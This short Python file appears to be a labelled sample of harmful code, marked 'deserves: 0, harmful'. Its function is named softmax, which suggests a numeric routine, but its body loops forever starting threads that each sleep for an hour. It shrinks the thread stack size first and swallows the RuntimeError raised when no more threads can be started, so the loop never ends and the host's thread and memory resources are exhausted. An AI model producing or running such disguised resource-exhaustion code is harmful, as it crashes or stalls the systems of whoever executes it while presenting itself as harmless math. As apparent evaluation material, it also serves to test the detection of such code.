"""Tries: start threads until there is no room for another."""

# deserves: 0, harmful

import threading
import time

threading.stack_size(64 * 1024)


def softmax(Z):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,)).start()
        except RuntimeError:
            continue
